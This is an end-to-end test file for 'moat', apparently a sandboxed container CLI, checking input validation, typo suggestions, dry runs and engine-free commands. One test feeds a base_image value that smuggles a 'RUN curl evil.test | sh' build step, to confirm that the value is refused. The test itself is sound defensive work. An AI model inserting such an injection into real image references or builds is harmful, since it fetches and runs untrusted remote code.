/**
 * Never accept input silently: every moat.yaml key and every flag value either works or is refused, with
 * its position or its flag, before anything exists (no container, no network, no run directory, no
 * image); typos get a "did you mean"; --dry-run creates nothing; store-only commands work without an
 * engine. Each case asserts the exact stderr and exit code.
 */
import { execFile } from 'node:child_process';
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cleanupHome, containersOf, moat, networksOf, parseDetached, runDirs, tempDir, waitFor, type MoatResult } from './helpers.js';

const execFileP = promisify(execFile);
const ENGINE_DOWN = { DOCKER_HOST: 'unix:///nonexistent/moat-e2e-docker.sock' };

let home: string;
let root: string;

async function workspace(name: string, files: Record<string, string> = {}): Promise<string> {
  const d = join(root, name);
  await mkdir(d, { recursive: true, mode: 0o755 });
  for (const [f, text] of Object.entries(files)) await writeFile(join(d, f), text);
  return d;
}

async function snapshot(): Promise<{ containers: string[]; networks: string[]; runs: string[] }> {
  return { containers: (await containersOf(home)).sort(), networks: (await networksOf(home)).sort(), runs: runDirs(home) };
}

/** `moat ARGS` in `cwd`; asserts it left the home as it found it. */
async function refused(args: string[], cwd: string, env: NodeJS.ProcessEnv = {}): Promise<MoatResult> {
  const before = await snapshot();
  const r = await moat(args, { home, cwd, env });
  expect(await snapshot()).toEqual(before);
  return r;
}

async function imageExists(tag: string): Promise<boolean> {
  return execFileP('docker', ['image', 'inspect', tag]).then(
    () => true,
    () => false,
  );
}

beforeAll(async () => {
  home = await tempDir('input-home');
  root = await tempDir('input-ws');
});

afterAll(async () => {
  await cleanupHome(home, root, [root]);
});

describe('moat.yaml: refused at moat.yaml:LINE:COL before anything is created', () => {
  const HINT =
    '  Fix moat.yaml at the positions above. Editors validate it with the modeline "# yaml-language-server: $schema=<path or URL>/moat.schema.json".\n';

  it('a secret reference and a service name moat cannot use: refused at their positions, before anything runs', async () => {
    const cwd = await workspace('unsupported', { 'moat.yaml': 'secrets:\n  TOKEN: op:/bad\nports:\n  Web_1: 8080\n' });
    const r = await refused(['run', '--', 'true'], cwd);
    expect(r.code).toBe(1);
    expect(r.stderr).toBe(
      'moat: moat.yaml is invalid (2 problems):\n' +
        '  moat.yaml:2:10: secrets.TOKEN: expected "op://vault/item/field", "ssm:///parameter-name", "ssm://REGION/parameter-name" or "env://HOST_VARIABLE"\n' +
        '  moat.yaml:4:3: ports.Web_1: "Web_1" is not a valid service name (lower-case letters, digits and dashes, starting with a letter, at most 30 characters)\n' +
        HINT,
    );
  });

  it('a base_image that could add build steps', async () => {
    const cwd = await workspace('base-image', { 'moat.yaml': 'name: ok\nbase_image: "debian:bookworm\\nRUN curl evil.test | sh"\n' });
    const r = await refused(['run', '--', 'true'], cwd);
    expect(r.code).toBe(1);
    expect(r.stderr).toBe(
      'moat: moat.yaml is invalid (1 problem):\n' +
        '  moat.yaml:2:13: base_image: an image reference has no spaces, line breaks or control characters\n' +
        HINT,
    );
  });

  it('memory "0" (once accepted, then no limit at all) and cpus below the engine\'s minimum', async () => {
    const cwd = await workspace('sizes', { 'moat.yaml': 'container:\n  memory: "0"\n  cpus: 0.001\n' });
    const r = await refused(['run', '--', 'true'], cwd);
    expect(r.code).toBe(1);
    expect(r.stderr).toBe(
      'moat: moat.yaml is invalid (2 problems):\n' +
        '  moat.yaml:2:11: container.memory: expected at least 6m (the engine refuses less)\n' +
        '  moat.yaml:3:9: container.cpus: expected a number of CPUs of at least 0.01, e.g. 2 or 0.5\n' +
        HINT,
    );
  });
});

describe('flag values: refused while the command line is read, naming the flag', () => {
  const USAGE = '(add --help for usage)\n';
  const cases: Array<[string[], string]> = [
    [['logs', '-n', 'abc'], "moat: option '-n, --lines <N>' argument 'abc' is invalid. Expected a whole number of 0 or more.\n"],
    [
      ['trace', '--status', 'bogus'],
      "moat: option '--status <status>' argument 'bogus' is invalid. Expected a status code (200), a class of codes (4xx) or \"blocked\".\n",
    ],
    [['stop', '-t', '1s'], "moat: option '-t, --time <seconds>' argument '1s' is invalid. Expected a whole number from 0 to 3600.\n"],
    [['run', '--cpus', 'abc', '--', 'true'], "moat: option '--cpus <n>' argument 'abc' is invalid. Expected a number, e.g. 1.5.\n"],
    [['run', '--pids', '2k', '--', 'true'], "moat: option '--pids <n>' argument '2k' is invalid. Expected a whole number from 16 to 4194304.\n"],
    [
      ['deps', 'list', '--type', 'tools'],
      "moat: option '--type <type>' argument 'tools' is invalid. Allowed choices are runtime, tool, npm, apt, pip, meta.\n",
    ],
  ];
  for (const [args, message] of cases) {
    it(`moat ${args.join(' ')}`, async () => {
      const r = await refused(args, await workspace('flags'));
      expect(r.code).toBe(2);
      expect(r.stderr).toBe(message + USAGE);
    });
  }

  it("--memory with the schema's own rule; --allow-host names the flag, not network.rules", async () => {
    const cwd = await workspace('flags');
    const m = await refused(['run', '--memory', '0', '--', 'true'], cwd);
    expect(m.code).toBe(1);
    expect(m.stderr).toBe('moat: invalid --memory "0": expected at least 6m (the engine refuses less)\n  Example: --memory 2g\n');
    const h = await refused(['run', '--allow-host', 'https://api.example.com/', '--', 'true'], cwd);
    expect(h.code).toBe(1);
    expect(h.stderr).toBe(
      'moat: invalid --allow-host "https://api.example.com/": host pattern "https://api.example.com/" has a URL scheme; write only the host, e.g. "api.example.com"\n' +
        '  Example: --allow-host api.example.com (or *.example.com, host:8443)\n',
    );
  });
});

describe('did you mean', () => {
  it('a mistyped command, at the top and below', async () => {
    const cwd = await workspace('typo');
    const a = await refused(['lsit'], cwd);
    expect(a.code).toBe(2);
    expect(a.stderr).toBe("moat: unknown command 'lsit'\n  did you mean: moat list\n(add --help for usage)\n");
    const b = await refused(['grnat', 'github'], cwd);
    expect(b.stderr).toBe("moat: unknown command 'grnat'\n  did you mean: moat grant\n(add --help for usage)\n");
    const c = await refused(['trust', 'shw'], cwd);
    expect(c.stderr).toBe("moat: unknown command 'shw'\n  did you mean: moat trust show\n(add --help for usage)\n");
  });

  it('a forgotten -- before the container command', async () => {
    const cwd = await workspace('dashdash');
    const a = await refused(['run', 'ls'], cwd);
    expect(a.code).toBe(1);
    expect(a.stderr).toBe(`moat: The workspace ${join(cwd, 'ls')} does not exist.\n  did you mean: moat run -- ls  (the container command goes after --)\n`);
    const b = await refused(['run', 'ls', '-la'], cwd);
    expect(b.code).toBe(2);
    expect(b.stderr).toBe("moat: unknown option '-la'\n  did you mean: moat run -- ls -la\n(add --help for usage)\n");
    const c = await refused(['run', '-e', 'A=1', 'echo', 'hi'], cwd);
    expect(c.stderr).toBe(
      "moat: too many arguments for 'run'. Expected 1 argument but got 2.\n  did you mean: moat run -e A=1 -- echo hi\n(add --help for usage)\n",
    );
  });

  it('a mistyped grant and provider', async () => {
    const cwd = await workspace('grant-typo');
    const a = await refused(['run', '--grant', 'githb', '--', 'true'], cwd);
    expect(a.code).toBe(1);
    expect(a.stderr).toBe(
      'moat: Unknown grant "githb": there is no provider "githb" (known: github, claude, openai, npm, aws, anthropic, gitlab, huggingface, linear, sentry, stripe, vercel).\n  did you mean: --grant github\n',
    );
    const b = await refused(['grant', 'githb'], cwd);
    expect(b.code).toBe(1);
    expect(b.stderr).toBe(
      'moat: Unknown credential provider "githb". Known: github, claude, openai, npm, aws, anthropic, gitlab, huggingface, linear, sentry, stripe, vercel.\n  did you mean: moat grant github\n',
    );
  });
});

describe('runs: dry run, confirmation, no engine', () => {
  let stoppedId = '';

  it('--dry-run run says what it would build and creates nothing (no container, no run directory, no image)', async () => {
    // A dependency no other test uses: its image cannot exist yet.
    const cwd = await workspace('dry', { 'moat.yaml': 'dependencies: ["apt:sl"]\nnetwork:\n  policy: strict\n  rules: [api.example.com]\n' });
    const r = await refused(['--dry-run', 'run', '-e', 'TOKEN=hush', '--memory', '1g', '--', 'make', 'test'], cwd);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const tag = /build (moat-image:[0-9a-f]{20}) from debian:bookworm-slim/.exec(r.stdout)?.[1] ?? '';
    expect(tag, r.stdout).not.toBe('');
    expect(r.stdout).toBe(
      'Would start a run (dry run: nothing was created):\n' +
        `  image      build ${tag} from debian:bookworm-slim\n` +
        '  container  (a generated name): make test\n' +
        `  workspace  ${cwd} -> /workspace\n` +
        '  env        TOKEN\n' +
        '  grants     -\n' +
        '  network    strict; allowed: api.example.com; denied: -\n' +
        '  limits     memory 1073741824 bytes, pids 4096\n' +
        '  approval   3 change(s) of moat.yaml to approve (moat trust show)\n',
    );
    expect(r.stdout).not.toContain('hush');
    expect(await imageExists(tag)).toBe(false);
  });

  it('--dry-run is refused where it previews nothing', async () => {
    const r = await refused(['list', '--dry-run'], await workspace('dry'));
    expect(r.code).toBe(2);
    expect(r.stderr).toBe(
      'moat: --dry-run previews run, claude, codex, stop, destroy and clean, not list.\n  Leave --dry-run out (moat list has no preview).\n',
    );
  });

  it('moat destroy without a name asks (no terminal: refused, nothing removed); --dry-run removes nothing; -y removes', async () => {
    const cwd = await workspace('destroy');
    const run = await moat(['run', '-n', 'to-keep', '--', 'echo', 'kept'], { home, cwd });
    expect(run.code).toBe(0);
    stoppedId = runDirs(home)[0] ?? '';
    // The daemon removes the finished run's container: wait, so the snapshots below compare a settled home.
    await waitFor(async () => (await containersOf(home)).length === 0, 20_000, "the finished run's container removed");
    const ask = await refused(['destroy'], cwd);
    expect(ask.code).toBe(1);
    expect(ask.stderr).toBe(
      `(destroy to-keep, ${stoppedId})\n` +
        'moat: moat destroy asks before removing the most recent stopped run (to-keep), and there is no terminal to ask.\n' +
        '  Name it (moat destroy to-keep) or add -y.\n',
    );
    const dry = await refused(['destroy', '--dry-run', 'to-keep'], cwd);
    expect(dry.code).toBe(0);
    // Its container too while the daemon has not removed it yet.
    expect(dry.stdout).toMatch(
      new RegExp(
        `^Would remove \\(dry run: nothing was removed\\):\\n  run to-keep \\(${stoppedId}\\): (its container [0-9a-f]{12} and )?its directory ${join(home, 'runs', stoppedId)}\\n$`,
      ),
    );
    const clean = await refused(['clean', '--dry-run'], cwd);
    // One table style (src/term/table.ts): WHAT, NAME, ID.
    expect(clean.stdout).toMatch(new RegExp(`^Would remove \\(dry run: nothing was removed\\):\\nWHAT +NAME +ID\\nrun +to-keep +${stoppedId}\\n$`));
  });

  it('list, logs, trace, audit and grant list work without an engine, with one warning line', async () => {
    const cwd = await workspace('no-engine');
    const live = await moat(['run', '-d', '-n', 'still-live', '--', 'sleep', '30'], { home, cwd });
    expect(live.code).toBe(0);
    const { id } = parseDetached(live.stdout);
    await waitFor(() => runDirs(home).includes(id), 10_000, 'the live run');
    const warning = 'warning: Cannot reach the Docker engine at unix:///nonexistent/moat-e2e-docker.sock (ENOENT): runs are shown as last recorded.\n';

    const list = await refused(['list'], cwd, ENGINE_DOWN);
    expect(list.code).toBe(0);
    expect(list.stderr).toBe(warning);
    // NAME, COMMAND, WORKSPACE, STATE, AGE, ID (one table style).
    expect(list.stdout).toMatch(new RegExp(`^still-live +sleep 30 +\\S+ +running +.+ +${id}$`, 'm'));
    expect(list.stdout).toMatch(/^to-keep +echo kept +\S+ +stopped \(0\) +.+ +run_[0-9a-f]{12}$/m);

    const logs = await refused(['logs', 'to-keep'], cwd, ENGINE_DOWN);
    expect([logs.code, logs.stdout, logs.stderr]).toEqual([0, 'kept\n', '']);
    const trace = await refused(['trace', 'to-keep'], cwd, ENGINE_DOWN);
    expect([trace.code, trace.stderr]).toEqual([0, 'No requests recorded for run to-keep.\n']);
    const audit = await refused(['audit', 'to-keep'], cwd, ENGINE_DOWN);
    expect(audit.code).toBe(0);
    expect(audit.stdout).toContain('verdict: OK');
    const grants = await refused(['grant', 'list'], cwd, ENGINE_DOWN);
    expect(grants.code).toBe(0);

    // --dry-run stop says what it would stop and leaves the run running.
    const dry = await refused(['--dry-run', 'stop', 'still-live'], cwd);
    expect(dry.stdout).toBe(`Would stop run still-live (${id}): SIGTERM, then SIGKILL after 10 s (dry run: nothing was stopped).\n`);
    const stop = await moat(['stop', '-t', '1', id], { home, cwd });
    expect(stop.code).toBe(0);
    const yes = await moat(['destroy', '-y'], { home, cwd });
    expect(yes.code).toBe(0);
    expect(runDirs(home)).not.toContain(id);
  });
});
